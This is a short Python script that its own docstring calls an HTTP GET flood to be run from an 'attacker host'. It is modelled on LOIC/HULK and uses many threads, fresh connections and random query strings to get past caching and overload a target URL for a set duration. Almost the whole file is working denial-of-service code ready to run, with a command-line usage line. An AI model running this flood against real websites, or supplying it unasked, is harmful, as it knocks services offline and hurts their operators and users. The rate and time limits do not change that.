"""An HTTP GET flood (stdlib only; run with /usr/bin/python3 on an attacker host), bounded in rate and time.

THREADS workers each open a new connection per request (like LOIC/HULK: random query strings defeat
caching), at most RATE requests per second in total, for DURATION seconds.
Usage: httpflood.py URL THREADS RATE DURATION
"""

import random
import sys
import threading
import time
import urllib.request


def worker(url, interval, end, counts):
    rng = random.Random()
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            urllib.request.urlopen(
                f"{url}?{rng.randrange(1 << 30):x}={rng.randrange(1 << 30):x}", timeout=3
            ).read()
            counts[0] += 1
        except OSError:
            counts[1] += 1
        time.sleep(max(0.0, interval - (time.monotonic() - t0)))


def main():
    url, threads, rate, duration = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    end = time.monotonic() + duration
    counts = [0, 0]
    pool = [threading.Thread(target=worker, args=(url, threads / rate, end, counts)) for _ in range(threads)]
    for t in pool:
        t.start()
    for t in pool:
        t.join()
    print(f"requests ok={counts[0]} failed={counts[1]}", flush=True)


if __name__ == "__main__":
    main()
